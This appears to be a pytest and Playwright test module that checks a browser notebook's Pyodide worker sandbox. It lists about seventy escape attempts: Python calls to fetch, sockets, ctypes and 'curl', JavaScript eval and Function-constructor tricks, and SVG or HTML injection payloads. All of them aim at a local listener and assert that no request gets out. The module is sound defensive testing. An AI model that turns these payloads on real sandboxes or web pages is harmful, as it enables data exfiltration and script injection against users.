# ruff: noqa: E501 (an attack is one line)
"""Attacks from a reader's cell on everything beyond it, while a server listens for what gets out.

The site is served without headers, as the plainest host does: nothing but the seal (js/python/seal.js) holds the
worker. What a cell shows is tried on a page of the book. Each attack is known to get out where there is no seal.
"""

import importlib.util
import json
import shutil
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect


def loaded(name: str) -> Any:
    """Another test module of this folder."""
    spec = importlib.util.spec_from_file_location(name, Path(__file__).with_name(f"{name}.py"))
    if spec is None or spec.loader is None:
        raise FileNotFoundError(name)
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


WORKER, VALUES = loaded("test_81_worker"), loaded("test_88_values")
call, in_worker, run = WORKER.call, WORKER.in_worker, VALUES.run

MODULE = "export default 1; globalThis.reached = true;"
FETCHES = "fetch('URL?from-code').catch(() => {})"

BY_PYTHON = {
    "import js": "import js; js.fetch('URL')",
    "js by importlib": "import importlib; importlib.import_module('js').fetch('URL')",
    "js, its absence deleted": "import sys; del sys.modules['js']\nimport js; js.fetch('URL')",
    "pyodide_js": "import sys; del sys.modules['pyodide_js']\nimport pyodide_js; pyodide_js.loadPackage('URL')",
    "the import hook": "import sys\n[f.find_spec('js', None).loader for f in sys.meta_path if 'Js' in type(f).__name__][0]\nimport js",
    "jsfinder": "from _pyodide._importhook import jsfinder; jsfinder.jsproxies['js'].fetch('URL')",
    "run_js": "from pyodide.code import run_js; run_js(\"" + FETCHES + "\")",
    "run_js of the core": "import _pyodide_core; _pyodide_core.run_js(\"" + FETCHES + "\")",
    "run_js, an import": "from pyodide.code import run_js; run_js(\"import('URL')\")",
    "pyfetch": "from pyodide.http import pyfetch; pyfetch('URL').send(None)",
    "pyxhr": "from pyodide.http import pyxhr; pyxhr.get('URL')",
    "open_url": "from pyodide.http import open_url; open_url('URL')",
    "urllib": "from urllib.request import urlopen; urlopen('URL')",
    "http.client": "import http.client; http.client.HTTPConnection('HOST').request('GET', '/')",
    "a socket": "import socket; socket.create_connection(('localhost', PORT), 1).sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')",
    "asyncio": "import asyncio; asyncio.open_connection('localhost', PORT).send(None)",
    "another program": "import os; os.system('curl URL') and 1 / 0\nimport subprocess; subprocess.run(['curl', 'URL'])",
    "the package loader": "import pyodide._package_loader as p; p.unpack_buffer",
    "ctypes, a script": "import ctypes\nctypes.CDLL(None).emscripten_run_script(b\"" + FETCHES + "\")",
    "ctypes, a download": "import ctypes\nctypes.CDLL(None).emscripten_async_wget(b'URL', b'/a', None, None)",
    "ctypes, another library": "import ctypes\nctypes.CDLL('URL')",
    "proxies in memory": "import gc\nfound = [o for o in gc.get_objects() if type(o).__name__ == 'JsProxy']\n"
    "for one in found:\n    one.constructor.constructor('" + FETCHES.replace("'", '"') + "')()\n1 / (1 if found else 0)",
    "what a task posts with": "import gc\nfrom cubogram.web.worker import Task\n"
    "tasks = [o for o in gc.get_objects() if isinstance(o, Task)]\n"
    "posts = [getattr(t, n) for t in tasks for n in vars(t) if 'Js' in type(getattr(t, n)).__name__]\n"
    "posts[0].constructor('" + FETCHES.replace("'", '"') + "')()",
    "a proxy's prototypes": "import gc\nfound = [o for o in gc.get_objects() if type(o).__name__ == 'JsProxy']\n"
    "found[0].__proto__.constructor('" + FETCHES.replace("'", '"') + "')()",
    "to_js and back": "from pyodide.ffi import to_js\nto_js({'a': 1}).constructor.constructor('" + FETCHES.replace("'", '"') + "')()",
    "a proxy of Python": "from pyodide.ffi import create_proxy\ncreate_proxy(print).constructor('1')()",
    "the event loop": "import asyncio\nasyncio.get_event_loop().run_in_executor(None, print).get_loop().js",
}  # fmt: skip
"""Python in a cell: each must end with an error."""
SILENT = ("the package loader", "ctypes, a download")
"""Except these, which do nothing."""

BY_SCRIPT = {
    "fetch": "fetch('URL')",
    "XMLHttpRequest": "const x = new XMLHttpRequest(); x.open('GET', 'URL'); x.send()",
    "WebSocket": "new WebSocket('ws://HOST/')",
    "EventSource": "new EventSource('URL')",
    "WebTransport": "new WebTransport('https://HOST/')",
    "importScripts": "importScripts('URL')",
    "a worker": "new Worker('URL')",
    "a worker of a blob": "new Worker(URL.createObjectURL(new Blob([`fetch('URL')`])))",
    "a shared worker": "new SharedWorker('URL')",
    "code from text": "Function(`fetch('URL')`)()",
    "code by a constructor": "(async () => {}).constructor(`return fetch('URL')`)()",
    "a timer with text": "setTimeout(`fetch('URL')`)",
    "eval": "(0, eval)(`fetch('URL')`)",
    "a font": "self.fonts.add(new FontFace('a', 'url(URL)'))",
    "a beacon": "navigator.sendBeacon('URL')",
    "caches": "caches.open('x')",
    "indexedDB": "indexedDB.open('x')",
    "files": "navigator.storage.getDirectory()",
    "cookies": "cookieStore.set('a', 'b')",
    "localStorage": "localStorage.setItem('a', 'b')",
    "a channel to other tabs": "new BroadcastChannel('x').postMessage(1)",
    "locks": "navigator.locks.query()",
    "the page": "parent.location.href",
    "navigation": "location.assign('URL')",
    "what is below the global object": "Object.getPrototypeOf(globalThis).fetch('URL')",
    "what Response holds": "Response.constructor(`fetch('URL')`)()",
    "what a port holds": "new MessageChannel().port1.constructor.constructor(`fetch('URL')`)()",
    "registration": "registration.update()",
}
"""Scripts in the worker, if somebody found a way to run one: each throws."""

SHOWN = {
    "an image": '<image href="URL"/><image xlink:href="URL"/>',
    "a use": '<use href="URL#a"/>',
    "a script": "<script>fetch('URL')</script>",
    "a handler": "<rect width='9' height='9' onload=\"fetch('URL')\" onclick=\"fetch('URL')\"/>",
    "a style sheet": "<style>@import url(URL); rect { fill: url(URL#a) }</style>",
    "a style": "<rect width='9' height='9' style='background: url(URL); fill: url(URL#a)'/>",
    "a fill": "<rect width='9' height='9' fill='url(URL#a)'/>",
    "a fill with escapes": "<rect width='9' height='9' fill='u\\72l(URL#a)'/>",
    "a fill with a comment": "<rect width='9' height='9' fill='url(/**/\"URL#a\")'/>",
    "a marker": "<path d='M0 0h9' marker-end='url( \"URL#a\" )'/>",
    "HTML inside": "<foreignObject width='9' height='9'><img xmlns='http://www.w3.org/1999/xhtml' src='URL'/></foreignObject>",
    "a frame inside": "<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='URL'/></foreignObject>",
    "a link": "<a href='URL'><rect width='9' height='9'/></a>",
    "an animation": "<rect><set attributeName='fill' to='url(URL#a)'/><animate attributeName='href' values='URL'/></rect>",
    "a filter": "<filter id='f'><feImage href='URL'/></filter><rect filter='url(#f)' width='9' height='9'/>",
}  # fmt: skip
"""Pictures that a cell shows."""


@dataclass
class Listener:
    """A server that answers whatever it is asked, and remembers it."""

    heard: list[str] = field(default_factory=list)

    def start(self) -> "Listener":
        heard = self.heard

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Type", "text/javascript")
                self.end_headers()
                self.wfile.write(MODULE.encode())

            do_POST = do_GET

            def log_message(self, *_: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, args=(0.05,), daemon=True).start()
        return self

    def named(self, code: str, number: int = 0) -> str:
        """An attack that is aimed here."""
        host = f"localhost:{self.server.server_port}"
        address = f"http://{host}/{number}"
        by_port = code.replace("HOST", host).replace("PORT", str(self.server.server_port))
        return (
            by_port.replace("URL.create", "U.create")
            .replace("URL", address)
            .replace("U.c", "URL.c")
        )


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    made = Listener().start()
    yield made
    made.server.shutdown()
    made.server.server_close()


@pytest.fixture(scope="module")
def worker(
    browser: Browser, probe_folder: Path, tmp_path_factory: Any, module_site: Any
) -> Iterator[Page]:
    """A page whose worker has run a reader's code, from a host that sends no headers."""
    folder = tmp_path_factory.mktemp("plain") / "site"
    shutil.copytree(probe_folder, folder)
    (folder / "_headers").unlink()
    context = browser.new_context(service_workers="block")
    page = context.new_page()
    page.goto(module_site(folder).url + "probe.html")
    assert call(page, "cells.run", code="1")["result"]["error"] is None
    yield page
    context.close()


@pytest.fixture(scope="module")
def module_site(shared_site: Any) -> Iterator[Any]:
    """Serves a folder for as long as the module's tests run."""
    sites: list[Any] = []

    def start(folder: Path) -> Any:
        sites.append(type(shared_site)(folder).start())
        return sites[-1]

    yield start
    for one in sites:
        one.stop()


def test_there_are_many_attacks() -> None:
    assert len(BY_PYTHON) + len(BY_SCRIPT) + len(SHOWN) >= 70


@pytest.mark.parametrize("name", BY_PYTHON)
def test_python_in_a_cell_gets_nowhere(worker: Page, listener: Listener, name: str) -> None:
    listener.heard.clear()
    outcome = call(worker, "cells.run", code=listener.named(BY_PYTHON[name]))
    worker.wait_for_timeout(100)
    assert listener.heard == []
    result = outcome.get("result")
    if name not in SILENT:
        assert result is None or result["error"] is not None, result
    assert call(worker, "cells.run", code="6 * 7")["result"]["value"]["text"] == "42"


@pytest.mark.parametrize("name", BY_SCRIPT)
def test_a_script_in_the_worker_gets_nowhere(worker: Page, listener: Listener, name: str) -> None:
    listener.heard.clear()
    code = listener.named(BY_SCRIPT[name])
    said = in_worker(worker, f"(() => {{ {code}; return 'reached'; }})()")
    worker.wait_for_timeout(100)
    assert listener.heard == []
    assert "Error" in str(said), said


def test_the_same_gets_out_of_a_page_without_a_seal(browser: Browser, listener: Listener) -> None:
    """Otherwise the listener would hear nothing, whatever was tried."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(listener.named("http://HOST/page"))
    got_out = []
    for name in ("fetch", "XMLHttpRequest", "WebSocket", "EventSource", "a worker", "a beacon"):
        listener.heard.clear()
        page.evaluate(f"() => {{ {listener.named(BY_SCRIPT[name])} }}")
        page.wait_for_timeout(300)
        got_out += [name] if listener.heard else []
    for name in ("an image", "a use", "a fill", "HTML inside", "a style sheet", "a filter"):
        listener.heard.clear()
        page.evaluate(
            "svg => { document.documentElement.innerHTML = svg; }", picture(listener, name)
        )
        page.wait_for_timeout(300)
        got_out += [name] if listener.heard else []
    context.close()
    assert len(got_out) >= 9, got_out


def picture(listener: Listener, name: str) -> str:
    """The SVG of an attack."""
    spaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    inside = f'{listener.named(SHOWN[name])}<circle r="3"/>'
    return f'<svg {spaces} viewBox="0 0 9 9">{inside}</svg>'


def test_what_a_cell_shows_fetches_nothing(browser: Browser, site: Any, listener: Listener) -> None:
    """Not even if there is no content policy."""
    context = browser.new_context(bypass_csp=True, service_workers="block")
    page = context.new_page()
    page.goto(f"{site.url}learn/")
    listener.heard.clear()
    for name in SHOWN:
        svg = picture(listener, name)
        result = run(page, f"class Picture:\n    def _repr_svg_(self): return {svg!r}\nPicture()")
        expect(result.locator("circle")).to_have_count(1)
        page.wait_for_timeout(200)
        assert listener.heard == [], name
        address = listener.named("http://HOST/")
        shown = result.locator("cell-picture").evaluate("e => (e.shadowRoot ?? e).innerHTML")
        assert address not in shown, name
    context.close()


TEXTS = """
from cubogram.nonogram import Puzzle
text = "<img src=URL onerror=fetch('URL')>"
class Named:
    def __repr__(self): return text
print(text)
[text, Named(), Puzzle([[1]], [[1]], title=text)]
"""
FORGED = """
from cubogram.live import display
def shown(value):
    return {VALUE}
display.shown = shown
import cubogram.web.cells as cells
for name, one in list(vars(cells).items()):
    if getattr(one, "__name__", "") == "shown": setattr(cells, name, shown)
1
"""


@pytest.mark.parametrize(
    "value",
    [
        {"kind": "text", "text": "<img src=URL>"},
        {"kind": "svg", "svg": "<img src=URL>"},
        {"kind": "cube", "facelets": '"><img src=URL>'},
        {"kind": "maneuver", "setup": "R'><img src=URL>", "text": '"><img src=URL>'},
        {
            "kind": "nonogram",
            "rows": '"><img src=URL>',
            "columns": "1",
            "colours": "url(URL)",
            "title-text": "<img src=URL>",
        },
        {"kind": "table", "rows": [["<img src=URL>"]], "moreRows": 0, "moreColumns": 0},
        {"kind": "table", "rows": [["a"]], "moreRows": "<img src=URL>", "moreColumns": 0},
        {"kind": "row", "parts": [{"kind": "svg", "svg": "<svg><image href='URL'/></svg>"}]},
        {"kind": "URL"},
    ],
    ids=lambda value: value["kind"],
)
def test_forged_answers_of_a_cell_show_text_only(
    browser: Browser, site: Any, listener: Listener, value: dict[str, Any]
) -> None:
    """Python in the cell replaces what makes its answers: the page trusts none of them."""
    context = browser.new_context(bypass_csp=True, service_workers="block")
    page = context.new_page()
    page.goto(f"{site.url}learn/")
    listener.heard.clear()
    forged = listener.named(json.dumps(value))
    run(page, FORGED.replace("{VALUE}", repr(json.loads(forged))))
    run(page, "2")
    page.wait_for_timeout(500)
    assert listener.heard == []
    assert page.locator(".cell-result img, .cell-result image, .cell-result script").count() == 0
    context.close()
